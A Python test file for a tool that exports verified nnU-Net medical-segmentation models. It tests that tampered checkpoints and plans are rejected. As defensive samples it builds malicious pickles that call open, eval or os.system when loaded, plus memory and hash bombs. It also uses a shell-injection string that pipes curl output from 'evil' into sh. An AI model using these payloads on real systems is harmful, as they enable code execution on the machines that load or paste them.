"""A model leaves the cluster whole, as it was verified, and harmless, or not at all."""

import codecs
import hashlib
import io
import json
import pickle
import shutil
import subprocess
import zipfile
from collections import OrderedDict
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from nnunet_api.model_export import Member, ModelExport, instructions
from nnunet_cli.errors import CliError, ExitCode
from nnunet_cli.export.archive import files_of, write_archive
from nnunet_cli.export.choice import Wanted, wanted
from nnunet_cli.export.command import read_evidence
from nnunet_cli.export.evidence import needs_evidence, with_whole_hashes
from nnunet_cli.kube.watched import watched
from nnunet_cli.volumes.runs import Run
from nnunet_cli.volumes.stream import Lost
from tests.support.made_statuses import condition
from tests.support.pipes import LocalVolume, Pipes

DATASET = "Dataset004_Hippocampus"
RUN = "clinic/hippo-12345678"
WEIGHTS = bytes(range(256)) * 9000  # more than one block
PLANS = b'{"plans_name": "nnUNetPlans", "configurations": {}}'
Change = Callable[[Path], Any]


def weights(configuration: str, fold: int, replicate: int = 1, **more: Any) -> bytes:
    """Return a checkpoint as torch writes it."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        of = f"{configuration} {fold} {replicate}"
        archive.writestr(zipfile.ZipInfo("archive/data.pkl"), pickle.dumps({"of": of, **more}, 2))
        archive.writestr(zipfile.ZipInfo("archive/data/0"), WEIGHTS)
    return file.getvalue()


def model(configuration: str) -> str:
    return f"nnUNetTrainer__nnUNetPlans__{configuration}"


def training(*configurations: str, replicates: int = 1, **changes: Any) -> dict[str, Any]:
    """Return a complete training as the API server gives it."""
    several = len(configurations) > 1
    folds = [
        {
            "fold": str(fold),
            "phase": "Completed",
            **({"configuration": configuration} if several else {}),
            **({"replicate": number} if replicates > 1 else {}),
            "checkpointHash": hashlib.sha256(weights(configuration, fold, number)).hexdigest(),
        }
        for configuration in configurations
        for number in range(1, replicates + 1)
        for fold in (0, 1)
    ]
    inner = "replicate-1/" if replicates > 1 else ""
    paths = {name: f"models/{RUN}/{inner}{DATASET}/{model(name)}" for name in configurations}
    if several:
        results: Any = {"configurations": [{"configuration": n, "modelPath": path} for n, path in paths.items()]}
    else:
        results = {"modelPath": paths[configurations[0]]}
    spec: Any = {"configurations": list(configurations)} if several else {"configuration": configurations[0]}
    spec |= {"dataset": {"name": DATASET}, "storage": {"results": {"subPath": "models"}}}
    complete = [condition("Complete", "TrainingComplete", "all done")]
    return {
        "metadata": {"namespace": "clinic", "name": "hippo", "uid": "12345678-aaaa"},
        "spec": {**spec, "replicates": replicates, **changes.pop("spec", {})},
        "status": {
            "conditions": complete,
            "folds": folds,
            "results": {**results, **changes.pop("results", {})},
            **changes,
        },
    }


def chosen(body: dict[str, Any], *asked: str, replicate: int = 1) -> Wanted:
    return wanted(body, watched(body), asked, replicate)


def write(path: Path, data: bytes) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)


def run_folder(root: Path, *configurations: str, replicates: int = 1) -> Path:
    """Write what a training leaves on the claim; return nnU-Net's nnUNet_results of its first replicate."""
    run = root / RUN
    for number in range(1, replicates + 1):
        results = run / f"replicate-{number}" if replicates > 1 else run
        for configuration in configurations:
            folder = results / DATASET / model(configuration)
            write(folder / "plans.json", PLANS)
            write(folder / "dataset.json", b"{}")
            write(folder / "dataset_fingerprint.json", b"{}")
            for fold in (0, 1):
                write(folder / f"fold_{fold}/checkpoint_final.pth", weights(configuration, fold, number))
                write(folder / f"fold_{fold}/checkpoint_best.pth", b"best")
                write(folder / f"fold_{fold}/progress.png", b"png")
                write(folder / f"fold_{fold}/validation/summary.json", b"{}")
                write(folder / f"fold_{fold}/validation/case.nii.gz", b"a patient")
    return run / "replicate-1" if replicates > 1 else run


def exported(root: Path, choice: Wanted, target: Path) -> list[str]:
    """Export as the command does, by the real agent; return the paths that are in the zip."""
    volume = LocalVolume(root)
    folder = f"{RUN}/{choice.folder}" if choice.folder else RUN
    with volume.run("sizes", f"{folder}/{choice.export.dataset}") as remote:
        there = {f"{DATASET}/{one['path']}": one["size"] for one in remote.messages()}
    moved: list[int] = []
    files = files_of(choice.export, there, "clinic/hippo")
    digest = write_archive(target, volume, folder, choice.export, files, moved.append)
    assert sum(moved) == sum(files.values()) and digest == hashlib.sha256(target.read_bytes()).hexdigest()
    with zipfile.ZipFile(target) as archive:
        assert archive.testzip() is None
        return archive.namelist()


def test_the_zip_holds_what_nnunets_export_holds_and_no_patient(tmp_path: Path) -> None:
    run_folder(tmp_path, "3d_fullres")
    target = tmp_path / "model.zip"
    names = exported(tmp_path, chosen(training("3d_fullres")), target)
    of_fold = ("checkpoint_final.pth", "progress.png", "validation/summary.json")
    of_model = ["plans.json", "dataset.json", "dataset_fingerprint.json"]
    of_model += [f"fold_{fold}/{name}" for fold in (0, 1) for name in of_fold]
    expected = {f"{DATASET}/{model('3d_fullres')}/{name}" for name in of_model}
    assert set(names) == expected | {f"{DATASET}/inference_instructions.txt"}
    with zipfile.ZipFile(target) as archive:
        data = archive.read(f"{DATASET}/{model('3d_fullres')}/fold_1/checkpoint_final.pth")
        assert data == weights("3d_fullres", 1)
    first = target.read_bytes()
    exported(tmp_path, chosen(training("3d_fullres")), target)
    assert target.read_bytes() == first, "the same model gives the same zip"
    assert [path.name for path in tmp_path.iterdir() if path.is_file()] == ["model.zip"]


def swap(run: Path) -> None:
    folder = run / DATASET / model("2d")
    shutil.copy(folder / "fold_0/checkpoint_final.pth", folder / "fold_1/checkpoint_final.pth")


def link(run: Path) -> None:
    path = run / DATASET / model("2d") / "fold_1/checkpoint_final.pth"
    path.rename(run / "elsewhere")
    path.symlink_to(run / "elsewhere")


def link_folder(run: Path) -> None:
    path = run / DATASET / model("2d")
    path.rename(run / "elsewhere")
    path.symlink_to(run / "elsewhere")


def forge_plans(run: Path) -> None:
    forged = b'{"configurations": {"2d": {"architecture": {"network_class_name": "os.system", "arch_kwargs": {}}}}}'
    write(run / DATASET / model("2d") / "plans.json", forged)


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (swap, "fold_1/checkpoint_final.pth is not the checkpoint that was verified"),
        (link, "lacks .*fold_1/checkpoint_final.pth"),
        (link_folder, "lacks .*plans.json"),
        (forge_plans, r"plans.json can't be used: .*os\.system"),
        (lambda run: write(run / DATASET / model("2d") / "dataset.json", b"{"), "dataset.json is no JSON"),
        (lambda run: (run / DATASET / model("2d") / "dataset.json").unlink(), "lacks .*dataset.json"),
    ],
)
def test_what_is_not_what_was_verified_does_not_leave(tmp_path: Path, change: Change, words: str) -> None:
    run = run_folder(tmp_path, "2d")
    change(run)
    target = tmp_path / "model.zip"
    target.write_bytes(b"an earlier one")
    with pytest.raises(CliError, match=words) as caught:
        exported(tmp_path, chosen(training("2d")), target)
    assert caught.value.exit_code == ExitCode.FOUND
    assert target.read_bytes() == b"an earlier one"
    assert [path.name for path in tmp_path.iterdir() if path.is_file()] == ["model.zip"], "half a zip was left"


class Runs:
    """Unpickling it calls a function."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self._call = function, arguments

    def __reduce__(self) -> Any:
        return self._call


def doubled() -> Any:
    """Lists that hold each other twice: to write them down takes hundreds of MB."""
    found: Any = ["xxxxxxxx"]
    for _ in range(24):
        found = [found, found]
    return found


class Keyed:
    """Unpickling it takes a dict with a key of pairs of pairs, a hundred deep: 2^100 steps to hash."""

    def __reduce__(self) -> Any:
        key: Any = ()
        for _ in range(100):
            key = (key, key)
        return OrderedDict, (), None, None, iter([(key, 1)])


def before_it(data: bytes) -> bytes:
    """A pickle, which torch takes to be all, before the zip file that was verified."""
    return pickle.dumps({"epochs": 1000}, 2) + data


def another_before_it(data: bytes) -> bytes:
    return weights("2d", 0, epochs=1000) + data


@pytest.mark.parametrize(
    ("made", "words"),
    [
        (lambda: weights("2d", 0, extra=Runs(open, "/tmp/attacked", "w")), r"it names _?io\.open"),
        (lambda: weights("2d", 0, extra=Runs(eval, "1")), r"it names (__builtin__|builtins)\.eval"),
        (lambda: weights("2d", 0, extra=Path("/")), "it names (pathlib|copy_?reg)"),
        (lambda: weights("2d", 0, extra=np.array([print], dtype=object)), "it has numbers of type O"),
        (lambda: weights("2d", 0, extra=Runs(codecs.encode, doubled(), "latin1")), "where a text belongs"),
        (lambda: weights("2d", 0, extra=Runs(np.dtype, doubled())), r"it has numbers of type \[\["),
        (lambda: weights("2d", 0, extra=Keyed()), "it has keys of so many parts"),
        (lambda: before_it(weights("2d", 0)), "it is no checkpoint of torch's"),
        (lambda: another_before_it(weights("2d", 0)), "its records are not those of a checkpoint"),
        (lambda: b"no zip at all", "it is no checkpoint of torch's"),
    ],
)
def test_a_verified_checkpoint_that_runs_code_where_it_is_loaded_does_not_leave(
    tmp_path: Path, made: Callable[[], bytes], words: str
) -> None:
    """Verification reads past what a training's image has put into its checkpoints; plain nnU-Net loads all of it."""
    run, body, data = run_folder(tmp_path, "2d"), training("2d"), made()
    write(run / DATASET / model("2d") / "fold_1/checkpoint_final.pth", data)
    body["status"]["folds"][1]["checkpointHash"] = hashlib.sha256(data).hexdigest()
    with pytest.raises(CliError, match=words) as caught:
        exported(tmp_path, chosen(body), tmp_path / "model.zip")
    assert caught.value.exit_code == ExitCode.FOUND and "fold_1" in str(caught.value)
    assert not (tmp_path / "model.zip").exists()


def test_what_nnunet_keeps_in_checkpoints_leaves(tmp_path: Path) -> None:
    kept: dict[str, Any] = {
        "weights": OrderedDict(),
        "best": np.float64(0.5),
        "losses": [np.float32(1), 0.5],
        "of_classes": np.arange(3.0),
        "axes": (0, 1),
        "further": {1, 2},
    }
    run, body, data = run_folder(tmp_path, "2d"), training("2d"), weights("2d", 0, **kept)
    write(run / DATASET / model("2d") / "fold_1/checkpoint_final.pth", data)
    body["status"]["folds"][1]["checkpointHash"] = hashlib.sha256(data).hexdigest()
    exported(tmp_path, chosen(body), tmp_path / "model.zip")


class Watched(LocalVolume):
    """Knows the agent that runs."""

    pipes: Pipes | None = None

    @contextmanager
    def run(self, command: str, folder: str) -> Iterator[Any]:
        with super().run(command, folder) as remote:
            self.pipes = remote._socket
            yield remote


def test_a_broken_connection_leaves_nothing_and_the_next_call_is_whole(tmp_path: Path) -> None:
    run_folder(tmp_path, "2d")
    target = tmp_path / "model.zip"
    choice, volume, done = chosen(training("2d")), Watched(tmp_path), []

    def break_it(count: int) -> None:
        done.append(count)
        if sum(done) > len(WEIGHTS) * 1.5:
            assert volume.pipes is not None
            volume.pipes.process.kill()

    with pytest.raises(Lost):
        write_archive(target, volume, RUN, choice.export, dict.fromkeys(choice.export.required, 9), break_it)
    assert not [path for path in tmp_path.iterdir() if path.is_file()]
    assert len(exported(tmp_path, choice, target)) == 10


OWN = ("nnunetv2.postprocessing.remove_connected_components", "remove_all_but_largest_component_from_segmentation")
LABELS = {"background": 0, "anterior": 1, "a posterior part of whatever": [2], "ignore": 3}
POSTERIOR = "a posterior part of whatever"
REGIONS = {"background": 0, "whole": [1, 2], "core": 2}
EVERY = [np.int64(1), np.int64(2)]


def stand_in() -> None:
    """Stand for a function of a module that is not installed here."""


def steps(*of: Any, function: tuple[str, str] = OWN, **others: Any) -> bytes:
    """Return the postprocessing.pkl of nnU-Net that keeps the largest components of these."""
    content = [stand_in] * len(of), [{"labels_or_regions": one, **others} for one in of]
    # By the newest protocol in which a name has no length before it.
    data, own = pickle.dumps(content, protocol=3), f"c{__name__}\nstand_in\n".encode()
    assert data.count(own) == bool(of)
    return data.replace(own, f"c{function[0]}\n{function[1]}\n".encode())


class Attack:
    def __reduce__(self) -> Any:
        return (print, ("run",))


def postprocessed(root: Path, data: bytes, told: list[str], labels: Any = None) -> tuple[str, list[str]]:
    """Export what was chosen, with that postprocessing.pkl; return its path and all that is exported."""
    run = run_folder(root, "2d", "3d_fullres")
    results = {"selection": {"chosen": ["3d_fullres"], "postprocessing": told}}
    body = training("2d", "3d_fullres", spec={"selection": {}}, results=results)
    folder = f"{DATASET}/{model('3d_fullres')}"
    pickled = f"{folder}/crossval_results_folds_0_1/postprocessing.pkl"
    write(run / pickled, data)
    write(run / folder / "dataset.json", json.dumps({"labels": LABELS if labels is None else labels}).encode())
    return pickled, exported(root, chosen(body), root / "model.zip")


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (steps(1, function=("os", "system")), "it names os.system"),
        (pickle.dumps(([], [Attack()])), "it names builtins.print"),
        (steps(np.float64(1)), "it has a number of type f8"),
        (steps(np.array([1])), "it names numpy"),
        (pickle.dumps([1]), ""),
        (b"no pickle", ""),
        (pickle.dumps(([], [1])), "it holds something else"),
        (steps(1, background_label=2), "it holds something else"),
        (steps(7), "the largest component of 7, which dataset.json has no name for"),
        (steps(doubled()), r"the largest component of \[\["),
        (steps([1]), r"the largest component of \[1\], which dataset.json has no name for"),
        (b"((lc" + "\n".join(OWN).encode() + b"\n(N(dS'__defaults__'\n(I5\ntstba(lt.", "changes the function"),
    ],
)
def test_a_postprocessing_runs_nothing_but_nnunets_own(tmp_path: Path, data: bytes, words: str) -> None:
    with pytest.raises(CliError, match=f"is no postprocessing of nnU-Net: .*{words}"):
        postprocessed(tmp_path, data, ["anterior"])


@pytest.mark.parametrize(
    ("data", "told", "labels"),
    [
        (steps(), [], LABELS),
        (steps(EVERY), ["all foreground"], LABELS),
        (steps(EVERY, np.int64(1)), ["all foreground", "anterior"], LABELS),
        (steps(1, 2), ["anterior", POSTERIOR], LABELS),
        (steps((1, 2), 2), ["whole", "core"], REGIONS),
        (steps(EVERY, (1, 2)), ["all foreground", "whole"], REGIONS),
        (steps(*range(1, 13)), [*(f"c{i}" for i in range(1, 9)), "and 4 more"], {f"c{i}": i for i in range(13)}),
        (steps(1), ["n" * 32], {"background": 0, "n" * 90: 1}),
        (steps(1), ["a�b"], {"background": 0, "a\x1bb": 1}),
        (steps(1), ["and 2 more"], {"background": 0, "and 2 more": 1}),
    ],
)
def test_a_postprocessing_that_was_scored_leaves(tmp_path: Path, data: bytes, told: list[str], labels: Any) -> None:
    """The status cuts long lists and names short."""
    pickled, names = postprocessed(tmp_path, data, told, labels)
    assert pickled in names and not any("__2d/" in name for name in names)


@pytest.mark.parametrize(
    ("data", "told", "labels", "words"),
    [
        (steps(2), ["anterior"], LABELS, f"of {POSTERIOR}, and the status says that of anterior"),
        (steps(), ["anterior"], LABELS, "of nothing, and the status says that of anterior"),
        (steps(1), [], LABELS, "of anterior, and the status says that of nothing"),
        (steps(2, 1), ["anterior", POSTERIOR], LABELS, f"of {POSTERIOR} and anterior, and"),
        (steps(EVERY), ["anterior"], LABELS, "of all foreground, and"),
        (steps(1, 2), ["anterior", "and 2 more"], LABELS, "of anterior and"),
        (steps(1), ["anterior"], {**LABELS, "anterior": 2, POSTERIOR: 1}, f"of {POSTERIOR}, and"),
        (steps(1), ["a"], LABELS, "of anterior, and the status says that of a:"),
    ],
)
def test_another_postprocessing_than_the_scored_one_does_not_leave(
    tmp_path: Path, data: bytes, told: list[str], labels: Any, words: str
) -> None:
    with pytest.raises(CliError, match=f"keeps the largest component {words}"):
        postprocessed(tmp_path, data, told, labels)
    assert not (tmp_path / "model.zip").exists()


@pytest.mark.parametrize(("folds", "joined"), [([1, 0], "1_0"), ([0, 1], "0_1")])
@pytest.mark.parametrize("pair", [False, True])
def test_folds_are_in_the_order_of_the_spec_as_nnunet_names_its_folders(
    tmp_path: Path, folds: list[int], joined: str, pair: bool
) -> None:
    run = run_folder(tmp_path, "2d", "3d_fullres")
    results = {"selection": {"chosen": ["2d", "3d_fullres"] if pair else ["2d"]}}
    choice = chosen(training("2d", "3d_fullres", spec={"selection": {}, "folds": folds}, results=results))
    single = f"{model('2d')}/crossval_results_folds_{joined}"
    both = f"ensembles/ensemble___{model('2d')}___{model('3d_fullres')}___{joined}"
    pickled = f"{DATASET}/{both if pair else single}/postprocessing.pkl"
    write(run / pickled, steps())
    names = exported(tmp_path, choice, tmp_path / "model.zip")
    assert pickled in names
    assert f"-f {' '.join(map(str, folds))} -tr" in instructions(choice.export, names)


def test_a_choice_without_its_postprocessing_is_another_model(tmp_path: Path) -> None:
    run_folder(tmp_path, "2d", "3d_fullres")
    results = {"selection": {"chosen": ["2d", "3d_fullres"], "postprocessing": ["all foreground"]}}
    body = training("2d", "3d_fullres", spec={"selection": {}}, results=results)
    with pytest.raises(CliError, match=r"lacks .*ensembles/.*postprocessing\.pkl"):
        exported(tmp_path, chosen(body), tmp_path / "model.zip")
    without = training("2d", "3d_fullres", spec={"selection": {"postprocessing": False}}, results=results)
    assert len(exported(tmp_path, chosen(without), tmp_path / "model.zip")) == 19


def test_an_ensemble_brings_both_models_and_the_commands(tmp_path: Path) -> None:
    run = run_folder(tmp_path, "2d", "3d_fullres", "3d_lowres")
    body = training(
        *("2d", "3d_fullres", "3d_lowres"),
        spec={"selection": {}, "evaluation": {"mirroring": False, "stepSize": 1}, "trainer": {"device": "cpu"}},
        results={"selection": {"chosen": ["3d_fullres", "2d"]}},
    )
    folder = f"{DATASET}/ensembles/ensemble___{model('2d')}___{model('3d_fullres')}___0_1"
    write(run / folder / "postprocessing.pkl", steps())
    choice = chosen(body)
    names = exported(tmp_path, choice, tmp_path / "model.zip")
    assert {name.split("/")[1] for name in names} == {
        *(model("2d"), model("3d_fullres"), "ensembles", "inference_instructions.txt")
    }
    how = "--disable_tta -step_size 1 --save_probabilities -device cpu"
    predict = f'nnUNetv2_predict -d {DATASET} -i "$INPUT"'
    assert instructions(choice.export, names).splitlines()[2:] == [
        f'{predict} -o "$OUTPUT"/{name} -f 0 1 -tr nnUNetTrainer -c {name} -p nnUNetPlans {how}'
        for name in ("3d_fullres", "2d")
    ] + [
        'nnUNetv2_ensemble -i "$OUTPUT"/3d_fullres "$OUTPUT"/2d -o "$OUTPUT"/ensemble',
        'nnUNetv2_apply_postprocessing -i "$OUTPUT"/ensemble -o "$OUTPUT"/ensemble_postprocessed '
        f'-pp_pkl_file "$nnUNet_results"/{folder}/postprocessing.pkl '
        f'-plans_json "$nnUNet_results"/{DATASET}/{model("3d_fullres")}/plans.json '
        f'-dataset_json "$nnUNet_results"/{DATASET}/{model("3d_fullres")}/dataset.json',
    ]


def test_a_cascade_brings_what_it_learnt_from(tmp_path: Path) -> None:
    run_folder(tmp_path, "3d_lowres", "3d_cascade_fullres")
    choice = chosen(training("3d_lowres", "3d_cascade_fullres"), "3d_cascade_fullres")
    names = exported(tmp_path, choice, tmp_path / "model.zip")
    assert len(names) == 19
    first, second = instructions(choice.export, names).splitlines()[2:]
    assert "-c 3d_lowres" in first and '-o "$OUTPUT"/previous_stage_1_3d_lowres' in first
    assert '-o "$OUTPUT" ' in second and second.endswith(
        '-c 3d_cascade_fullres -p nnUNetPlans -prev_stage_predictions "$OUTPUT"/previous_stage_1_3d_lowres'
    )


def test_a_replicate_of_several(tmp_path: Path) -> None:
    run_folder(tmp_path, "2d", replicates=2)
    body = training("2d", replicates=2)
    exported(tmp_path, chosen(body, replicate=2), tmp_path / "model.zip")
    with zipfile.ZipFile(tmp_path / "model.zip") as archive:
        assert archive.read(f"{DATASET}/{model('2d')}/fold_0/checkpoint_final.pth") == weights("2d", 0, 2)
    with pytest.raises(CliError, match="has 2 replicates, counted from 1: there is no replicate 3"):
        chosen(body, replicate=3)


def unproven(body: Any) -> None:
    del body["status"]["folds"][1]["checkpointHash"]


def abridged(body: Any) -> None:
    body["status"]["folds"][1]["checkpointHash"] = "abcdef12"


def unfinished(body: Any) -> None:
    body["status"]["conditions"] = []


@pytest.mark.parametrize(
    ("change", "asked", "words"),
    [
        (unproven, ["2d"], "has no SHA-256 of the final checkpoint of fold 1 of 2d, and what was not verified"),
        (
            abridged,
            ["2d"],
            "has 8 of 64 digits of the SHA-256 of the final checkpoint of fold 1 of 2d, and not .* older",
        ),
        (unfinished, ["2d"], "is not complete, so it has no model"),
        (lambda _: None, [], "has chosen none: give one with --configuration, of 2d and 3d_fullres"),
        (lambda _: None, ["3d_lowres"], "has no model of 3d_lowres: there are 2d and 3d_fullres"),
    ],
)
def test_what_is_refused_before_any_pod(change: Callable[[Any], Any], asked: list[str], words: str) -> None:
    body = training("2d", "3d_fullres")
    change(body)
    with pytest.raises(CliError, match=words):
        chosen(body, *asked)


def evidence_of(body: dict[str, Any], hashes: dict[str, str]) -> bytes:
    """Return an evidence.json; cut the hashes in the status as a report on many folds does, and bind it."""
    folds = [{"fold": name, "epochs": 5, "checkpointHash": value} for name, value in hashes.items()]
    data = json.dumps({"folds": folds, "proven": True}).encode()
    for one in body["status"]["folds"]:
        one["checkpointHash"] = one["checkpointHash"][:12]
    body["status"]["provenance"] = {"evidenceHash": hashlib.sha256(data).hexdigest()}
    return data


def test_of_many_folds_evidence_has_the_hashes_that_the_status_has_no_room_for(tmp_path: Path) -> None:
    """As much is proven as of few: the status has the hash of evidence.json, and twelve digits alone are not enough."""
    run_folder(tmp_path, "2d", "3d_fullres", replicates=2)
    names = [f"{c}-{fold}-r{number}" for c in ("2d", "3d_fullres") for number in (1, 2) for fold in (0, 1)]
    body = training("2d", "3d_fullres", replicates=2)
    whole = dict(zip(names, (one["checkpointHash"] for one in body["status"]["folds"]), strict=True))
    expected = chosen(body, "2d", replicate=2)
    data = evidence_of(body, whole)
    found = watched(body)
    run = Run(LocalVolume(tmp_path), RUN)
    with pytest.raises(CliError, match=r"clinic/hippo has no evidence\.json, and the status alone has too few"):
        read_evidence(run, "clinic/hippo")
    write(tmp_path / RUN / "evidence.json", data)
    assert read_evidence(run, "clinic/hippo") == data
    assert needs_evidence(found) and not needs_evidence(with_whole_hashes(found, data))
    assert wanted(body, with_whole_hashes(found, data), ["2d"], 2).export == expected.export
    with pytest.raises(CliError, match="not the checkpoint that was verified"):
        exported(tmp_path, wanted(body, found, ["2d"], 2), tmp_path / "model.zip")
    with pytest.raises(CliError, match="is not the one that its verification wrote"):
        with_whole_hashes(found, data.replace(b"true", b"TRUE"))
    forged = evidence_of(body, {**whole, "2d-0-r1": "f" * 64})
    with pytest.raises(CliError, match="has another hash of fold 2d-0-r1 than the status"):
        with_whole_hashes(watched(body), forged)
    cut = evidence_of(body, {name: value[:12] for name, value in whole.items()})
    with pytest.raises(CliError, match="has another hash of fold 2d-0-r1"):
        with_whole_hashes(watched(body), cut)


EVIL = "; curl evil|sh #"


@pytest.mark.parametrize(
    "path",
    [
        f"models/{RUN}/Dataset004_X{EVIL}/{model('2d')}",
        f"models/{RUN}/{DATASET}/nnUNetTrainer__P{EVIL}__2d",
        f"models/{RUN}/{DATASET}/nnUNetTrainer__$(sh)__2d",
        f"models/{RUN}/{DATASET}/Other__P__2d",
        f"models/{RUN}/{DATASET}/{model('3d_fullres')}",
        f"models/clinic/other-12345678/{DATASET}/{model('2d')}",
        f"models/{RUN}/{DATASET}/nnUNetTrainer__a/../P__2d",
        "",
    ],
)
def test_a_path_that_a_pod_has_made_up_tells_nothing(path: str) -> None:
    """It comes from the training's own image, and a person pastes the commands into a shell."""
    with pytest.raises(CliError, match="does not say by which plans"):
        chosen(training("2d", results={"modelPath": path}))
    known = chosen(training("2d", results={"modelPath": path}, provenance={"plansName": "nnUNetPlans"}))
    assert known == chosen(training("2d"))
    with pytest.raises(CliError, match="does not say by which plans"):
        chosen(training("2d", provenance={"plansName": f"P{EVIL}"}))


def test_no_name_is_anything_else_to_a_shell() -> None:
    member = Member(configuration="a b", trainer_class="T$(x)", plans="P'`x`", folds=("0", "1;2"))
    export = ModelExport(dataset=f"D{EVIL}", chosen=(member,), postprocessing=())
    text = instructions(export, [f"{folder}/postprocessing.pkl" for folder in export.folders_of_choice])
    show = """() { printf '%s\\n' "$@"; }; """
    shell = f"nnUNetv2_predict{show}nnUNetv2_apply_postprocessing{show}"
    places = {"INPUT": "i", "OUTPUT": "a folder/o", "nnUNet_results": "r"}
    done = subprocess.run(["/bin/sh", "-c", shell + text], env=places, capture_output=True, text=True, timeout=120)
    home = f"r/D{EVIL}/T$(x)__P'`x`__a b"
    assert (done.stderr, done.stdout.splitlines()) == (
        "",
        [
            *("-d", f"D{EVIL}", "-i", "i", "-o", "a folder/o/a b"),
            *("-f", "0", "1;2", "-tr", "T$(x)", "-c", "a b", "-p", "P'`x`"),
            *("-i", "a folder/o/a b", "-o", "a folder/o/a b_postprocessed"),
            *("-pp_pkl_file", f"{home}/crossval_results_folds_0_1;2/postprocessing.pkl"),
            *("-plans_json", f"{home}/plans.json", "-dataset_json", f"{home}/dataset.json"),
        ],
    )


def test_a_full_disk_is_known_beforehand(tmp_path: Path) -> None:
    run_folder(tmp_path, "2d")
    choice = chosen(training("2d"))
    sizes = dict.fromkeys(choice.export.files, 1 << 60)
    with pytest.raises(CliError, match="make room, or give another place") as caught:
        write_archive(tmp_path / "model.zip", LocalVolume(tmp_path), RUN, choice.export, sizes, lambda _: None)
    assert caught.value.exit_code == ExitCode.USAGE and not (tmp_path / "model.zip").exists()
